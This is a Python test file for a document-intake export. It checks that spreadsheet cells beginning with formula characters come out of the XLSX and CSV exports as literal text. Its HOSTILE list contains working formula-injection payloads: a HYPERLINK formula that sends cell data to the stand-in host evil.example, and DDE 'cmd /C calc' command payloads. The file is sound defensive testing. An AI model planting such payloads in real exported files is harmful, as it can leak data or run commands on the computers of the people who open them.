"""Export never hands Excel a live formula (issue 13 item 17): text a reviewer typed or OCR read
from an applicant's paper that starts with = + - @ tab or CR is shown literally."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from intake.db import connect, transaction
from intake.export import export
from tests.intake.conftest import insert_verified

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def db(tmp_path):
    d = connect(tmp_path / "docintake.db")
    yield d
    d.conn.close()


def _plant(db, values: list[str]) -> None:
    insert_verified(db, len(values))
    with transaction(db):
        for sid, text in enumerate(values, start=1):
            db.conn.execute("UPDATE submissions SET decision_comment = ? WHERE id = ?", (text, sid))
            db.conn.execute(
                "UPDATE fields SET value = ?, value_json = json_quote(?) WHERE key = 'contract_number' AND "
                "document_id IN (SELECT id FROM documents WHERE submission_id = ?)", (text, text, sid))


def test_xlsx_cells_starting_like_a_formula_are_strings(db, tmp_path):
    _plant(db, HOSTILE)
    path = tmp_path / "out.xlsx"
    with open(path, "wb") as out:
        assert export(db, out, "xlsx") == len(HOSTILE)
    ws = load_workbook(path).active
    header = [c.value for c in ws[1]]
    comment, contract = header.index("comment"), header.index("service_contract.contract_number")
    rows = list(ws.iter_rows(min_row=3))
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE):
        for cell in (row[comment], row[contract]):
            assert cell.data_type == "s", (text, cell.data_type)
            # shown as written, nothing evaluated (a lone CR may come back as LF: openpyxl's
            # own XML reader normalizes line ends, lxml, when installed, keeps them)
            assert cell.value in (text, text.replace("\r", "\n"))
    amounts = [r[header.index("voucher_amount")].value for r in rows]
    assert all(isinstance(a, (int, float)) for a in amounts)  # numbers stay numbers


def test_csv_cells_starting_like_a_formula_get_an_apostrophe(db):
    _plant(db, HOSTILE)
    buf = io.BytesIO()
    export(db, buf, "csv")
    rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE):
        assert row["comment"] == "'" + text
        assert row["service_contract.contract_number"] == "'" + text
        assert not row["voucher_amount"].startswith("'")
